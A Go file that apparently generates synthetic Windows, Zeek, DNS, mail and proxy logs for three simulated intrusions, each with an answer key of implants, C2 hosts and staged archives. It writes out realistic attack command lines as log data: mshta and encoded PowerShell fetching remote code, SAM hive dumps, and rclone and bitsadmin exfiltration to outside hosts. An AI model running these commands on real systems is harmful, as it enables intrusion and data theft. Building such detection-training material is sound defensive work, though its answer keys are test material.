package stranger

import (
	"fmt"
	"time"
)

// 3: ISO and LNK by mail; Sysmon without network events; Zeek
func isoLnk(o *org) {
	d0 := day(2025, 11, 3)
	pc := o.machine("NAV-LT-118", "10.14.22.118", "winlogbeat", "wec/forwarded.json")
	fs := o.machine("nav-fs01.navair.local", "10.14.5.31", "winlogbeat", "wec/forwarded.json")
	dc := o.machine("nav-dc01.navair.local", "10.0.0.10", "winlogbeat", "wec/forwarded.json")
	pc2 := o.machine("NAV-LT-090", "10.14.22.90", "winlogbeat", "wec/forwarded.json")
	for _, m := range []*machine{pc, fs, dc, pc2} {
		m.sysmon = "nonet"
		m.sec = true
	}
	dc.sysmon = ""
	u := `NAVAIR\i.duarte`
	pc.live(d0, 18, u, "ws")
	pc2.live(d0, 18, `NAVAIR\t.barros`, "ws")
	fs.live(d0, 18, `NAVAIR\t.barros`, "srv")
	dc.live(d0, 18, u, "dc")
	z := o.zeek("sensor/zeek", false)
	z.live(d0, 18, "10.14.22.118", "10.14.22.90", "10.14.22.77", "10.14.5.31", "10.14.22.61")
	ml := "mx1/mail.log"
	senders := []string{"crew-scheduling@partner-air.example", "noreply@iata.example", "invoices@caterco.example", "hr@navair.example", "news@aviationdaily.example"}
	letter := func(t time.Time, step, from, to, client string, att string) {
		q := fmt.Sprintf("%X", 0x4A0000000+o.r.Int63n(1<<32))
		o.syslog(ml, t, step, "mx1", "postfix/smtpd[2211]", q+": client="+client)
		if att != "" {
			o.syslog(ml, t.Add(time.Second), step, "mx1", "postfix/cleanup[2215]", q+": info: header Content-Disposition: attachment; filename=\""+att+"\" from "+client+"; from=<"+from+"> to=<"+to+"> proto=ESMTP helo=<mail>")
		}
		o.syslog(ml, t.Add(time.Second), step, "mx1", "postfix/qmgr[880]", q+": from=<"+from+">, size=88122, nrcpt=1 (queue active)")
		o.syslog(ml, t.Add(2*time.Second), step, "mx1", "postfix/smtp[2218]", q+": to=<"+to+">, relay=10.14.5.40[10.14.5.40]:25, delay=1.2, delays=0.3/0/0.1/0.8, dsn=2.0.0, status=sent (250 2.6.0 Queued mail for delivery)")
	}
	for d := 0; d < 18; d++ {
		for k := 0; k < 8; k++ {
			t := d0.AddDate(0, 0, d).Add(time.Duration(6*3600+o.r.Intn(40000)) * time.Second)
			to := []string{"i.duarte@navair.example", "t.barros@navair.example", "l.costa@navair.example"}[o.r.Intn(3)]
			att := ""
			if o.r.Intn(3) == 0 {
				att = fmt.Sprintf("roster-%d.pdf", o.r.Intn(999))
			}
			i := o.r.Intn(5)
			letter(t, "", senders[i], to, fmt.Sprintf("mail%d.example[198.51.100.%d]", i, 10+i), att)
		}
	}
	b := d0.AddDate(0, 0, 9) // Wed
	letter(clock(b, "08:41:15"), "way-in/letter", "o.petrenko@icao-regionaloffice.org", "i.duarte@navair.example", "vps.icao-regionaloffice.org[45.153.240.94]", "Slot_Coordination_S26.iso")
	ex := pc.root(`C:\Windows\explorer.exe`, u)
	ol := pc.root(`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, u)
	t := clock(b, "09:12:44")
	ol.file(t, "way-in/attachment", `C:\Users\i.duarte\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QW0ZK1P\Slot_Coordination_S26.iso`)
	c := ex.run(t.Add(50*time.Second), "execution/lnk", s32+"cmd.exe", `"C:\Windows\System32\cmd.exe" /c start E:\docs\agenda.pdf & rundll32.exe E:\docs\wsc.dat,DllInitialize`)
	rd := c.run(t.Add(51*time.Second), "execution/rundll", s32+"rundll32.exe", `rundll32.exe  E:\docs\wsc.dat,DllInitialize`)
	rd.load(t.Add(52*time.Second), "execution/rundll", `E:\docs\wsc.dat`, false)
	rd.file(t.Add(80*time.Second), "persistence/drop", `C:\Users\i.duarte\AppData\Roaming\WinSAT\AdobeSync.exe`)
	rd.file(t.Add(81*time.Second), "persistence/drop", `C:\Users\i.duarte\AppData\Roaming\WinSAT\version.dll`)
	rd.reg(t.Add(84*time.Second), "persistence/run", `HKU\S-1-5-21-2311-1109\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\AdobeSync`, `C:\Users\i.duarte\AppData\Roaming\WinSAT\AdobeSync.exe`)
	im := rd.run(t.Add(86*time.Second), "execution/implant", `C:\Users\i.duarte\AppData\Roaming\WinSAT\AdobeSync.exe`, `"C:\Users\i.duarte\AppData\Roaming\WinSAT\AdobeSync.exe"`)
	im.load(t.Add(87*time.Second), "execution/implant", `C:\Users\i.duarte\AppData\Roaming\WinSAT\version.dll`, false)
	z.dns(t.Add(90*time.Second), "c2/beacon", "10.14.22.118", "static.aeroclub-news.com", "A", "185.82.219.201")
	for k := 0; k < 140; k++ {
		z.https(t.Add(91*time.Second+time.Duration(k)*20*time.Minute+time.Duration(o.r.Intn(240))*time.Second), "c2/beacon", "10.14.22.118", "185.82.219.201", "static.aeroclub-news.com", 1.1, 610+o.r.Intn(60), 340+o.r.Intn(90))
	}
	// discovery
	t = clock(b, "13:02:11")
	for i, q := range [][2]string{{"net.exe", `net  group "domain admins" /domain`}, {"nltest.exe", "nltest  /domain_trusts"}, {"systeminfo.exe", "systeminfo"}, {"ARP.EXE", "arp  -a"}} {
		x := im.run(t.Add(time.Duration(i)*35*time.Second), "discovery/"+q[0], s32+"cmd.exe", `cmd.exe /c `+q[1])
		x.run(t.Add(time.Duration(i)*35*time.Second+100*time.Millisecond), "discovery/"+q[0], s32+q[0], q[1])
	}
	// kerberoast
	for i, s := range []string{"svc_sql_ops", "svc_sharepoint", "svc_crewdb"} {
		dc.security(t.Add(4*time.Minute+time.Duration(i)*300*time.Millisecond), "credentials/kerberoast", 4769, kv("TargetUserName", "i.duarte@NAVAIR.LOCAL", "TargetDomainName", "NAVAIR.LOCAL", "ServiceName", s, "TicketOptions", "0x40810000", "TicketEncryptionType", "0x17", "IpAddress", "::ffff:10.14.22.118", "IpPort", "51022", "Status", "0x0"))
	}
	// WMI persistence on fs by remote
	b2 := b.AddDate(0, 0, 1)
	t = clock(b2, "10:30:00")
	x := im.run(t, "lateral/copy", s32+"cmd.exe", `cmd.exe /c copy C:\Users\i.duarte\AppData\Roaming\WinSAT\version.dll \\nav-fs01\ADMIN$\Temp\wlbs.dll`)
	_ = x
	lid := fs.logon(t.Add(time.Second), "lateral/fs", 3, `NAVAIR\svc_crewdb`, "10.14.22.118", "NAV-LT-118!")
	fs.security(t.Add(1200*time.Millisecond), "lateral/fs", 4672, kv("SubjectUserName", "svc_crewdb", "SubjectDomainName", "NAVAIR", "SubjectLogonId", lid, "PrivilegeList", "SeBackupPrivilege"))
	fs.security(t.Add(2*time.Second), "lateral/fs-share", 5145, kv("SubjectUserName", "svc_crewdb", "SubjectDomainName", "NAVAIR", "SubjectLogonId", lid, "IpAddress", "10.14.22.118", "IpPort", "51199", "ShareName", `\\*\ADMIN$`, "RelativeTargetName", `Temp\wlbs.dll`, "AccessMask", "0x2"))
	z.conn(t.Add(time.Second), "lateral/fs", "10.14.22.118", "10.14.5.31", 445, "smb", 14, 481000, 9000)
	fs.root("System", sysUser).file(t.Add(2*time.Second), "lateral/fs-share", `C:\Windows\Temp\wlbs.dll`)
	fs.sys(t.Add(30*time.Second), "persistence/wmi", 19, kv("EventType", "WmiFilterEvent", "Operation", "Created", "User", `NAVAIR\svc_crewdb`, "EventNamespace", `"root\\cimv2"`, "Name", `"BVTFilter2"`, "Query", `"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour=9"`))
	fs.sys(t.Add(31*time.Second), "persistence/wmi", 20, kv("EventType", "WmiConsumerEvent", "Operation", "Created", "User", `NAVAIR\svc_crewdb`, "Name", `"BVTConsumer2"`, "Type", "Command Line", "Destination", `"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\Temp\\wlbs.dll,Init"`))
	fs.sys(t.Add(32*time.Second), "persistence/wmi", 21, kv("EventType", "WmiBindingEvent", "Operation", "Created", "User", `NAVAIR\svc_crewdb`, "Consumer", `"CommandLineEventConsumer.Name=\"BVTConsumer2\""`, "Filter", `"__EventFilter.Name=\"BVTFilter2\""`))
	t = clock(b2.AddDate(0, 0, 1), "09:00:21")
	wp := fs.root(s32+`wbem\WmiPrvSE.exe`, sysUser)
	r2 := wp.run(t, "execution/wmi", s32+"rundll32.exe", `C:\Windows\System32\rundll32.exe C:\Windows\Temp\wlbs.dll,Init`)
	r2.load(t.Add(300*time.Millisecond), "execution/wmi", `C:\Windows\Temp\wlbs.dll`, false)
	for k := 0; k < 40; k++ {
		z.https(t.Add(3*time.Second+time.Duration(k)*time.Hour+time.Duration(o.r.Intn(600))*time.Second), "c2/beacon-fs", "10.14.5.31", "185.82.219.201", "static.aeroclub-news.com", 1.1, 610+o.r.Intn(60), 340+o.r.Intn(90))
	}
	// exfil by rclone from fs
	t = clock(b2.AddDate(0, 0, 1), "19:44:02")
	y := r2.run(t, "collection/archive", s32+"cmd.exe", `cmd.exe /c "C:\Program Files\7-Zip\7z.exe" a -pQ!w -mhe C:\Windows\Temp\hr_fy25.7z E:\shares\crew\passports`)
	y7 := y.run(t.Add(200*time.Millisecond), "collection/archive", `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe"  a -pQ!w -mhe C:\Windows\Temp\hr_fy25.7z E:\shares\crew\passports`)
	y7.file(t.Add(time.Second), "collection/archive", `C:\Windows\Temp\hr_fy25.7z`)
	t = t.Add(21 * time.Minute)
	y = r2.run(t, "exfil/rclone", `C:\Windows\Temp\svhost.exe`, `C:\Windows\Temp\svhost.exe copy C:\Windows\Temp\hr_fy25.7z mega:u1 --config C:\Windows\Temp\c.conf -q --no-check-certificate`)
	_ = y
	z.dns(t.Add(time.Second), "exfil/rclone", "10.14.5.31", "g.api.mega.co.nz", "A", "66.203.125.12")
	z.https(t.Add(2*time.Second), "exfil/rclone", "10.14.5.31", "66.203.125.12", "g.api.mega.co.nz", 3.1, 4100, 9000)
	z.https(t.Add(4*time.Second), "exfil/rclone", "10.14.5.31", "89.44.168.201", "gfs270n301.userstorage.mega.co.nz", 880, 911000200, 120311)
	o.starts = map[string]string{"first-alert": "@execution/rundll", "c2": "static.aeroclub-news.com", "mid": "@persistence/wmi", "exfil": "@exfil/rclone", "findings": ""}
	o.want.Implant = []string{"AdobeSync.exe"}
	o.want.C2 = []string{"static.aeroclub-news.com", "185.82.219.201"}
	o.want.Staged = []string{"hr_fy25.7z"}
	o.want.WayIn = []string{"way-in/letter", "way-in/attachment", "execution/lnk"}
}

// 5: trojanised update, DNS tunnel
func updateDNS(o *org) {
	d0 := day(2026, 2, 2)
	var ms []*machine
	for i, n := range []string{"REVMGT-03.alba.aero", "REVMGT-04.alba.aero", "revmgt-05.alba.aero"} {
		m := o.machine(n, fmt.Sprintf("10.200.8.%d", 33+i), "flat", "exports/%s.jsonl")
		m.live(d0, 22, fmt.Sprintf(`ALBA\rev%d`, i), "ws")
		m.sec = i == 0
		ms = append(ms, m)
		up := m.root(`C:\Program Files\FareWise\FwUpdater.exe`, sysUser)
		for d := 0; d < 22; d += 3 {
			t := d0.AddDate(0, 0, d).Add(time.Duration(11*3600+i*700) * time.Second)
			up.dns(t, "", "update.farewise.example", "198.51.100.44")
			up.net(t.Add(time.Second), "", "198.51.100.44", 443, "update.farewise.example")
			up.file(t.Add(9*time.Second), "", `C:\ProgramData\FareWise\Updates\fares-`+fmt.Sprint(2000+d)+`.pak`)
		}
	}
	dl := "dns/dns.log"
	q := func(t time.Time, step, cip, name, typ string) {
		o.put(dl, t, step, fmt.Sprintf("%s queries: info: client @0x7f3c %s#%d (%s): query: %s IN %s +E(0)K (10.200.1.53)", t.Format("02-Jan-2006 15:04:05.000"), cip, 40000+o.r.Intn(20000), name, name, typ))
	}
	for d := 0; d < 22; d++ {
		for k := 0; k < 60; k++ {
			t := d0.AddDate(0, 0, d).Add(time.Duration(6*3600+o.r.Intn(12*3600)) * time.Second)
			q(t, "", fmt.Sprintf("10.200.8.%d", 33+o.r.Intn(5)), sites[o.r.Intn(len(sites))][0], "A")
		}
	}
	b := d0.AddDate(0, 0, 14)
	m := ms[1]
	up := m.root(`C:\Program Files\FareWise\FwUpdater.exe`, sysUser)
	t := clock(b, "11:14:00")
	up.dns(t, "~update", "update.farewise.example", "198.51.100.44")
	up.net(t.Add(time.Second), "~update", "198.51.100.44", 443, "update.farewise.example")
	up.file(t.Add(9*time.Second), "way-in/update", `C:\ProgramData\FareWise\Updates\fwcore-5.2.1.exe`)
	inst := up.run(t.Add(15*time.Second), "way-in/update", `C:\ProgramData\FareWise\Updates\fwcore-5.2.1.exe`, `"C:\ProgramData\FareWise\Updates\fwcore-5.2.1.exe" /S`)
	inst.file(t.Add(18*time.Second), "execution/drop", `C:\ProgramData\FareWise\FwTelemetry.exe`)
	im := inst.run(t.Add(19*time.Second), "execution/implant", `C:\ProgramData\FareWise\FwTelemetry.exe`, `C:\ProgramData\FareWise\FwTelemetry.exe -bg`)
	inst.reg(t.Add(19*time.Second), "persistence/run", `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\FwTelemetry`, `C:\ProgramData\FareWise\FwTelemetry.exe -bg`)
	const hexa = "0123456789abcdef"
	lab := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = hexa[o.r.Intn(16)]
		}
		return string(b)
	}
	for k := 0; k < 260; k++ {
		bt := t.Add(time.Hour + time.Duration(k)*9*time.Minute + time.Duration(o.r.Intn(100))*time.Second)
		n := lab(28) + "." + lab(20) + ".ns1.stat-pixel.net"
		q(bt, "c2/dns", "10.200.8.34", n, []string{"TXT", "A", "TXT"}[k%3])
		if k%4 == 0 {
			im.dns(bt, "c2/dns", n, "10.1.1.1")
		}
	}
	t = clock(b.AddDate(0, 0, 1), "14:30:00")
	for i, c := range [][2]string{{"whoami.exe", "whoami /groups"}, {"net.exe", "net  localgroup administrators"}, {"net.exe", `net  use`}} {
		x := im.run(t.Add(time.Duration(i)*50*time.Second), "discovery/"+c[1], s32+"cmd.exe", `cmd /c `+c[1])
		x.run(t.Add(time.Duration(i)*50*time.Second+80*time.Millisecond), "discovery/"+c[1], s32+c[0], c[1])
	}
	t = t.Add(12 * time.Minute)
	x := im.run(t, "collection/archive", s32+"cmd.exe", `cmd /c makecab C:\Users\rev1\Documents\fares.mdb C:\ProgramData\FareWise\~cache.cab`)
	mk := x.run(t.Add(100*time.Millisecond), "collection/archive", s32+"makecab.exe", `makecab  C:\Users\rev1\Documents\fares.mdb C:\ProgramData\FareWise\~cache.cab`)
	mk.file(t.Add(4*time.Second), "collection/archive", `C:\ProgramData\FareWise\~cache.cab`)
	for k := 0; k < 500; k++ {
		bt := t.Add(3*time.Minute + time.Duration(k)*2*time.Second)
		q(bt, "exfil/dns", "10.200.8.34", lab(60)+"."+lab(60)+".ns1.stat-pixel.net", "A")
	}
	o.starts = map[string]string{"first-alert": "@execution/implant", "c2": "stat-pixel.net", "mid": "@discovery/whoami /groups", "exfil": "@exfil/dns", "findings": ""}
	o.want.Implant = []string{"FwTelemetry.exe"}
	o.want.C2 = []string{"stat-pixel.net"}
	o.want.Staged = []string{"~cache.cab"}
	o.want.WayIn = []string{"way-in/update"}
}

// 8: nothing of his own: only the system's programs. Windows event logs with command lines, a proxy.
func lolbin(o *org) {
	d0 := day(2025, 10, 6)
	hr := o.machine("WKS-HR-21.delta.example", "10.9.40.21", "evtxdump", "HR/WKS-HR-21-%s.jsonl")
	sap := o.machine("SAPGW2.delta.example", "10.9.10.8", "evtxdump", "HR/SAPGW2-%s.jsonl")
	for _, m := range []*machine{hr, sap} {
		m.sysmon, m.cmd4688 = "", true
	}
	u := `DELTA\k.nowak`
	hr.live(d0, 20, u, "ws")
	sap.live(d0, 20, `DELTA\basis`, "srv")
	px := "squid/access.log"
	o.squidLive(px, d0, 20, "10.9.40.21", "10.9.40.22", "10.9.40.23", "10.9.10.8")
	b := d0.AddDate(0, 0, 11)
	t := clock(b, "10:20:31")
	w := hr.root(`C:\Windows\explorer.exe`, u).run(t, "way-in/word", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\k.nowak\Downloads\CV_Lewandowska.docm" /o ""`)
	m := w.run(t.Add(21*time.Second), "execution/mshta", s32+"mshta.exe", `mshta http://cv-portal.online/v.hta`)
	o.squid(px, t.Add(22*time.Second), "execution/mshta", "10.9.40.21", "GET", "http://cv-portal.online/v.hta", "-", 200, 14022, "80.78.24.119")
	p := m.run(t.Add(25*time.Second), "execution/powershell", s32+`WindowsPowerShell\v1.0\powershell.exe`, `powershell -nop -w 1 -enc SQBFAFgAKABuAGUAdwAtAG8AYgBqAGUAYwB0ACAAbgBlAHQALgB3AGUAYgBjAGwAaQBlAG4AdAApAA==`)
	o.squid(px, t.Add(27*time.Second), "execution/powershell", "10.9.40.21", "CONNECT", "cv-portal.online:443", "-", 200, 220412, "80.78.24.119")
	for k := 0; k < 110; k++ {
		o.squid(px, t.Add(time.Minute+time.Duration(k)*5*time.Minute+time.Duration(o.r.Intn(25))*time.Second), "c2/beacon", "10.9.40.21", "CONNECT", "cdn3.cv-portal.online:443", "-", 200, 1900+o.r.Intn(60), "80.78.24.120")
	}
	p.run(t.Add(5*time.Minute), "persistence/task", s32+"schtasks.exe", `"C:\Windows\system32\schtasks.exe" /create /tn OneDriveSyncHealth /sc hourly /tr "powershell -nop -w 1 -c iex(gc C:\Users\k.nowak\AppData\Local\od.log -raw)"`)
	hr.task(t.Add(5*time.Minute+time.Second), "persistence/task", u, p.lid, `\OneDriveSyncHealth`, "powershell", "-nop -w 1 -c iex(gc C:\\Users\\k.nowak\\AppData\\Local\\od.log -raw)")
	for i, c := range [][2]string{{"nltest.exe", "nltest.exe /dclist:delta"}, {"net.exe", "net.exe user k.nowak /domain"}, {"systeminfo.exe", "systeminfo.exe"}, {"cmdkey.exe", "cmdkey.exe /list"}} {
		p.run(t.Add(time.Duration(9+i)*time.Minute), "discovery/"+c[0], s32+c[0], c[1])
	}
	p.run(t.Add(20*time.Minute), "credentials/reg", s32+"reg.exe", `reg.exe save HKLM\SAM C:\Users\k.nowak\AppData\Local\Temp\s1`)
	p.run(t.Add(21*time.Minute), "credentials/reg", s32+"reg.exe", `reg.exe save HKLM\SYSTEM C:\Users\k.nowak\AppData\Local\Temp\s2`)
	wr := p.run(t.Add(50*time.Minute), "lateral/winrm", s32+"winrs.exe", `winrs -r:SAPGW2 -u:DELTA\basis -p:Zima2025! cmd`)
	hr.security(t.Add(50*time.Minute+time.Second), "lateral/explicit", 4648, kv("SubjectUserName", "k.nowak", "SubjectDomainName", "DELTA", "SubjectLogonId", p.lid, "TargetUserName", "basis", "TargetDomainName", "DELTA", "TargetServerName", "SAPGW2.delta.example", "TargetInfo", "HTTP/SAPGW2", "ProcessId", fmt.Sprintf("0x%x", wr.pid), "ProcessName", s32+"winrs.exe", "IpAddress", "-"))
	lid := sap.logon(t.Add(50*time.Minute+2*time.Second), "lateral/logon", 3, `DELTA\basis`, "10.9.40.21", "WKS-HR-21!")
	ws := sap.root(s32+"svchost.exe", sysUser).runAs(t.Add(50*time.Minute+3*time.Second), "lateral/winrshost", s32+"winrshost.exe", s32+"winrshost.exe -Embedding", `DELTA\basis`, lid)
	c := ws.run(t.Add(50*time.Minute+4*time.Second), "lateral/shell", s32+"cmd.exe", `C:\Windows\system32\cmd.exe /C cmd`)
	c.run(t.Add(56*time.Minute), "collection/copy", s32+"robocopy.exe", `robocopy D:\usr\sap\trans\payroll C:\Windows\Tasks\p /e /r:0`)
	c.run(t.Add(63*time.Minute), "collection/archive", s32+"tar.exe", `tar -cf C:\Windows\Tasks\p.tar C:\Windows\Tasks\p`)
	c.run(t.Add(70*time.Minute), "exfil/bits", s32+"bitsadmin.exe", `bitsadmin /transfer u /upload /priority high https://cdn3.cv-portal.online/w C:\Windows\Tasks\p.tar`)
	o.squid(px, t.Add(71*time.Minute), "exfil/proxy", "10.9.10.8", "CONNECT", "cdn3.cv-portal.online:443", "-", 200, 3100, "80.78.24.120")
	o.starts = map[string]string{"first-alert": "@execution/powershell", "c2": "cdn3.cv-portal.online", "mid": "@persistence/task", "exfil": "@exfil/bits", "findings": ""}

	o.want.C2 = []string{"cdn3.cv-portal.online", "cv-portal.online", "80.78.24.120"}
	o.want.Staged = []string{"p.tar"}
	o.want.WayIn = []string{"way-in/word", "execution/mshta"}
}
